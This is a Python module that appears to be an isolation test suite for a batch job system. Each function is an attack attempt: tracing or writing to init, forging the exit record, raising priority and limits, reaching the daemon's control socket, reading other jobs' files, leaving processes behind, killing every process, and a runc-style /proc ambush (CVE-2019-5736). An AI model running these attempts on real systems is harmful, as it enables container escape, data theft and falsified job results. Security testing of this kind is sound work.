"""Attacks on the batch system. Each function is one, and its first line says what it would gain."""

from __future__ import annotations

import ctypes
import os
import resource
import signal
import socket
import struct
import sys
import time
from pathlib import Path

from kit import call, descriptors, each, hold, libc, loot, pids, scene

RECORD = b'{"exit_code": 0, "signal": null}\n'


def trace_init() -> None:
    """control over the process that writes the exit record"""
    each(lambda: call("ptrace", 0x4206, 1, 0, 0), lambda: call("ptrace", 16, 1, 0, 0))
    hold()


def stop_init() -> None:
    """an init that neither reaps nor tells"""
    for number in (signal.SIGSTOP, signal.SIGKILL):  # others a user's init hands on to the job itself
        each(lambda number=number: os.kill(1, number))
    hold()


def write_to_init() -> None:
    """a changed init, through its memory, its program or its open files"""
    each(
        lambda: os.open("/proc/1/mem", os.O_RDWR),
        lambda: os.open("/proc/1/exe", os.O_RDWR),
        *(lambda fd=fd: os.open(f"/proc/1/fd/{fd}", os.O_WRONLY) for fd in range(12)),
    )
    hold()


def limits_of_init() -> None:
    """an init with other limits, other processors, another place"""
    own = ctypes.create_string_buffer(struct.pack("QQ", 7, 7))
    each(
        lambda: call("prlimit64", 1, resource.RLIMIT_NOFILE, own, 0),
        lambda: os.sched_setaffinity(1, {min(os.sched_getaffinity(0))}),
        lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
        lambda: Path("/proc/1/oom_score_adj").write_text("1000"),
    )
    hold()


def forge_the_exit_record() -> None:
    """a job that has ended well, whatever its command did"""
    for fd in descriptors():
        if fd > 2 and fd != int(os.environ["HELD"]):
            each(lambda fd=fd: os.pwrite(fd, RECORD, 0), lambda fd=fd: os.write(fd, RECORD))
    each(*(lambda fd=fd: Path(f"/proc/1/fd/{fd}").write_bytes(RECORD) for fd in range(12)))


def more_processors() -> None:
    """processors that it was not given"""
    each(lambda: os.sched_setaffinity(0, range(os.cpu_count() or 1)))
    hold()


def more_of_a_processor() -> None:
    """a better place than others: nice, real time"""
    each(
        lambda: os.setpriority(os.PRIO_PROCESS, 0, -10),
        lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)),
        lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1)),
        lambda: call("ioprio_set", 1, 0, 1 << 13),
    )
    hold()


def larger_limits() -> None:
    """larger hard limits, and core dumps"""
    for kind in (resource.RLIMIT_CORE, resource.RLIMIT_NOFILE, resource.RLIMIT_MEMLOCK, resource.RLIMIT_NICE):
        each(lambda kind=kind: resource.setrlimit(kind, (1 << 30, 1 << 30)))
    hold()


def later_in_line_to_be_killed() -> None:
    """that others are killed first when the machine has no memory left"""
    for value in ("-1000", "-500", "0"):
        each(lambda value=value: Path("/proc/self/oom_score_adj").write_text(value))
        if int(Path("/proc/self/oom_score_adj").read_text()) <= int(value):
            break
    hold()


def control_socket() -> None:
    """the daemon, to do outside what the submitter may"""
    path = scene()["control"]
    ways = [path, f"/proc/1/root{path}", *(f"/proc/{pid}/root{path}" for pid in pids())]
    kept = []

    def connect(way: str) -> None:
        one = socket.socket(socket.AF_UNIX)
        one.connect(way)
        kept.append(one)

    each(*(lambda way=way: connect(way) for way in ways))
    hold()


def folders_of_the_daemon() -> None:
    """others' jobs: their files, environment and records in the state and run folders"""
    found = []
    for top in scene()["folders"]:
        for folder, _, names in os.walk(top):
            found += [os.path.join(folder, name) for name in names]
    each(*(lambda path=path: whole(path) for path in found))
    each(*(lambda top=top: loot(f"{top}/batchns.db") for top in scene()["folders"]))


def whole(path: str) -> None:
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    os.write(1, os.read(fd, 1 << 22))


def outlive() -> None:
    """processes that are still there when the job is over"""

    def linger(name: bytes) -> None:
        libc.prctl(15, name, 0, 0, 0)
        for number in range(1, 65):
            if number not in (signal.SIGKILL, signal.SIGSTOP, 32, 33):
                each(lambda number=number: signal.signal(number, signal.SIG_IGN))
        while True:
            time.sleep(1)

    name = f"out-{scene()['key'][-4:]}".encode()
    for step in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                if step == 1:
                    libc.ptrace(0, 0, 0, 0)  # PTRACE_TRACEME
                    libc.prctl(15, name, 0, 0, 0)
                    os.kill(os.getpid(), signal.SIGSTOP)
                linger(name)
            if step == 1:
                linger(name)
            os._exit(0)
    time.sleep(0.3)


def end_everything() -> None:
    """the end of everything, init included"""
    os.kill(-1, signal.SIGKILL)


def ambush() -> None:
    """whoever enters the job from outside: its program, memory and open files (CVE-2019-5736, CVE-2016-9962)"""
    known = {os.getpid(), os.getppid(), 1}
    end = time.monotonic() + 6
    Path("watching").touch()
    while time.monotonic() < end and not os.path.exists("enough-entered"):
        for pid in set(pids()) - known:
            for way in ("exe", "mem", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7"):
                for flags in (os.O_WRONLY, os.O_RDONLY):
                    try:
                        fd = os.open(f"/proc/{pid}/{way}", flags)
                    except OSError:
                        continue
                    if flags == os.O_RDONLY and way != "mem":
                        os.write(1, os.readlink(f"/proc/self/fd/{fd}").encode() + b"\n")
                    if flags == os.O_RDONLY or way == "mem":
                        os.close(fd)
            each_root(pid)
    hold()


def each_root(pid: int) -> None:
    for way in ("root", "cwd"):
        try:
            os.write(1, Path(f"/proc/{pid}/{way}/{scene()['secret']}").read_bytes())
        except OSError:
            continue


if __name__ == "__main__":
    globals()[sys.argv[1]]()
